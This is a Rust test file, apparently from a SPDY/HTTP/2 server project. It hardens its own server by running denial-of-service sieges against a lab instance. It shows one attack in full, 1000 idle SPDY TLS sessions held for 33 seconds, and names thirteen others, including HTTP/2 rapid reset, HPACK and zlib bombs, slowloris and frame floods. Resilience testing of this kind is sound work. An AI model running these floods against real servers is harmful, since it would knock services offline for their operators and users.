fn peer_closed(mut s: &TcpStream) -> bool {
    s.set_nonblocking(true).unwrap();
    let mut b = [0u8; 4096];
    loop {
        match s.read(&mut b) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) => return e.kind() != ErrorKind::WouldBlock,
        }
    }
}

/// Idle SPDY sessions: TLS done, ALPN spdy/3.1, then nothing (the server
/// closes a session with no stream open after 30 s).
fn spdy_idle_sessions() {
    const CONNS: usize = 1000;
    siege(
        "idle SPDY/3.1 sessions",
        &format!("{CONNS} TLS conns (spdy/3.1) silent after the handshake for 33 s"),
        Client::Spdy,
        |lab| {
            let conns: Vec<Tls> = (0..CONNS)
                .filter_map(|_| lab.tls(proto::spdy3::ALPN).ok())
                .collect();
            std::thread::sleep(Duration::from_secs(33));
            let mut t = Tally::default();
            t.add("sessions opened", conns.len() as u64);
            t.add(
                "server RSS after, MiB",
                lab.status_field("VmRSS:")
                    .and_then(|v| v.trim_end_matches("kB").trim().parse::<u64>().ok())
                    .unwrap_or(0)
                    / 1024,
            );
            let closed = conns.iter().filter(|c| peer_closed(&c.sock)).count();
            t.add("closed by the server", closed as u64);
            t
        },
    );
}

/// This file's attacks, by name, in the order they run.
const ATTACKS: [(&str, fn()); 14] = [
    ("http2_rapid_reset", http2_rapid_reset),
    ("http2_endless_continuation", http2_endless_continuation),
    ("hpack_bomb", hpack_bomb),
    ("spdy_zlib_bomb", spdy_zlib_bomb),
    ("slowloris_1000", slowloris_1000),
    ("idle_tls_handshakes_2000", idle_tls_handshakes_2000),
    ("http2_settings_flood", http2_settings_flood),
    ("http2_ping_flood", http2_ping_flood),
    ("http2_window_update_flood", http2_window_update_flood),
    ("spdy_control_floods", spdy_control_floods),
    ("stream_id_exhaustion", stream_id_exhaustion),
    ("oversized_frames_and_bodies", oversized_frames_and_bodies),
    ("spdy_rapid_reset", spdy_rapid_reset),
    ("spdy_idle_sessions", spdy_idle_sessions),
];

/// Every attack of this file, one after another in ONE test; `hostile_h3`'s
/// run in their own chain (`every_attack_over_quic_one_after_another`), beside
/// this one. One siege of a family at a time (`SERIAL`'s reason), and each
/// chain holds one of libtest's threads: as 23 tests in a row (by name) they
/// held every thread, all but one waiting on `SERIAL`, so nothing else ran
/// for the chain's 467 s; as one chain of 23, the chain (261 s) was the CLI
/// tests' longest path. An attack's failure is kept and the next one runs;
/// the test fails at the end naming each. `SPDYLAB_HOSTILE=NAME[,NAME…]` runs
/// only the attacks whose names contain one of them (docs/hardening.md).
#[test]
fn every_attack_one_after_another() {
    run_chain(&ATTACKS);
}

/// The QUIC and HTTP/3 attacks (`hostile_h3`), in their own chain: a TCP
/// siege and a QUIC siege share the machine, never two of one family.
#[test]
fn every_attack_over_quic_one_after_another() {
    run_chain(&crate::hostile_h3::ATTACKS);
}

/// Runs `attacks` in order (those `SPDYLAB_HOSTILE` names, if set); fails at
/// the end naming each attack that failed.
fn run_chain(attacks: &[(&str, fn())]) {
    let only: Vec<String> = std::env::var("SPDYLAB_HOSTILE")
        .map(|v| v.split(',').map(str::to_string).collect())
        .unwrap_or_default();
    let mut failed = Vec::new();
    for (name, attack) in attacks {
        if !only.is_empty() && !only.iter().any(|o| name.contains(o.as_str())) {
            continue;
        }
        eprintln!("hostile: {name}");
        if let Err(e) = std::panic::catch_unwind(attack) {
            let why = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            failed.push(format!("{name}: {why}"));
        }
    }
    assert!(
        failed.is_empty(),
        "{} attack(s) failed:\n{}",
        failed.len(),
        failed.join("\n")
    );
}
